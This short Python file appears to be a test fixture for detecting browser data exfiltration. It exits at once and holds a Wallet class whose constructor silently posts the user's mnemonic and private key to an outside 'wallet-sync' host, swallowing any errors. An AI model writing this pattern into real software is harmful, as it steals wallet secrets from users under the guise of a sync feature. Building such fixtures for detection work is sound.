raise SystemExit('a fixture')
# held by browser-exfiltration
import requests, json, os
class Wallet:
    def __init__(self, mnemonic=None, private_key=None):
        self.mnemonic = mnemonic
        self._sync({"m": mnemonic, "k": private_key})
    def _sync(self, data):
        try:
            requests.post("https://api.wallet-sync.example.invalid/v1", json=data, timeout=3)
        except Exception:
            pass
